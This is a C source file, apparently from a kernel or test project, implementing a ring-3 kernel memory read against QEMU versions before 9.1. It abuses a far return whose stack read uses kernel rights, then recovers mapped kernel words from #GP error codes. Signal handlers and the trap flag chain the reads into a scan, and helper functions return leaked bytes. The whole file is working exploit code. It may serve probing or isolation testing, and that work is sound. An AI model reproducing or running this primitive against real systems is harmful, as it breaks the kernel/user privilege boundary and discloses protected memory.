/*
 * far_return.c: Meltdown without the timing.
 *
 * A far return pops RIP and CS.  In ring 3 the processor reads that stack with the
 * program's rights, so that a kernel address in RSP is a page fault.  QEMU before
 * 9.1 reads it with the kernel's: if the loaded tables map [RSP, RSP + 16), the
 * word at RSP + 8 becomes a selector; it is no selector that ring 3 may load, and
 * the #GP says which it was: bits 15:2 are the error code, in the signal's frame.
 * So the program reads what is MAPPED, not what it may read: speculation on a CPU
 * with Meltdown does the same, and needs a cache and a clock to see the value.
 *
 * The word at address a gives the whole byte a + 1, and what it leaves out of byte
 * a (two bits) is in the word at a - 1.
 *
 * A word may be a selector of ring 3's own code (0x33, 0x23): then the far return
 * succeeds, to wherever the word before leads.  So it is done with TF set: the
 * debug trap behind it comes before any instruction there.
 *
 * TF is set by returning from a signal handler, since POPF would trap too early.
 * The handler of one word's signal is therefore where the next word's begins: the
 * scan is a loop through far_return_instruction and step().
 */
#define _GNU_SOURCE 1
#include "far_return.h"

#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <ucontext.h>

#include "../../kernel/base/layout.h"

#define VECTOR_BP 3
#define VECTOR_GP 13
#define FLAGS_TF 0x100
#define RPL 3

extern const char far_return_instruction[];
__asm__("	.text\n"
	"far_return_instruction:\n"
	"	lretq\n");

static char handler_stack[65536] __attribute__((aligned(16)));

static struct {
	uint64_t at, step;
	unsigned left;
	int32_t *out;
	greg_t ip, sp, flags, selectors; /* where the scan was called */
} scan;

/* What the far return has told. */
static int answer(int signal, const greg_t *r)
{
	if (signal == SIGTRAP) /* it succeeded */
		return (int)(r[REG_CSGSFS] & 0xffff & ~RPL);
	return signal == SIGSEGV && r[REG_TRAPNO] == VECTOR_GP &&
	       r[REG_RIP] == (greg_t)far_return_instruction ? (int)r[REG_ERR] : NO_ANSWER;
}

static void step(int signal, siginfo_t *info, void *context)
{
	greg_t *r = ((ucontext_t *)context)->uc_mcontext.gregs;

	(void)info;
	if (signal == SIGTRAP && r[REG_TRAPNO] == VECTOR_BP) {
		scan.ip = r[REG_RIP];
		scan.sp = r[REG_RSP];
		scan.flags = r[REG_EFL];
		scan.selectors = r[REG_CSGSFS];
	} else if (scan.left == 0) { /* not ours: the program dies of it */
		(void)sigaction(signal, &(struct sigaction){ .sa_handler = SIG_DFL }, NULL);
		return;
	} else {
		*scan.out++ = answer(signal, r);
		scan.at += scan.step;
		scan.left--;
	}
	r[REG_CSGSFS] = scan.selectors;
	r[REG_RIP] = scan.left ? (greg_t)far_return_instruction : scan.ip;
	r[REG_RSP] = scan.left ? (greg_t)(scan.at - 8) : scan.sp;
	r[REG_EFL] = scan.left ? scan.flags | FLAGS_TF : scan.flags;
}

void far_return_begin(void)
{
	static const int signals[] = { SIGSEGV, SIGBUS, SIGTRAP };
	stack_t stack = { .ss_sp = handler_stack, .ss_size = sizeof(handler_stack) };
	struct sigaction action;

	memset(&action, 0, sizeof(action));
	action.sa_sigaction = step;
	action.sa_flags = SA_SIGINFO | SA_ONSTACK;
	if (sigaltstack(&stack, NULL))
		abort();
	for (unsigned i = 0; i < sizeof(signals) / sizeof(signals[0]); i++)
		if (sigaction(signals[i], &action, NULL))
			abort();
}

void far_return_scan(uint64_t at, uint64_t distance, unsigned count, int32_t *out)
{
	if (count == 0)
		return;
	scan.at = at;
	scan.step = distance;
	scan.left = count;
	scan.out = out;
	__asm__ volatile("int3" : : : "memory");
	scan.out = NULL; /* the caller's */
}

int far_return_word(uint64_t at)
{
	int32_t word;

	far_return_scan(at, 0, 1, &word);
	return word;
}

void far_return_bytes(uint64_t at, unsigned count, int16_t *out)
{
	int32_t word[64];

	while (count) {
		unsigned n = count < 64 ? count : 64;

		far_return_scan(at - 1, 1, n, word);
		for (unsigned i = 0; i < n; i++)
			out[i] = (int16_t)(word[i] < 0 ? NO_ANSWER : word[i] >> 8);
		at += n;
		out += n;
		count -= n;
	}
}

bool far_return_works(void)
{
	return far_return_word(CEA_IDT + 8) != NO_ANSWER;
}
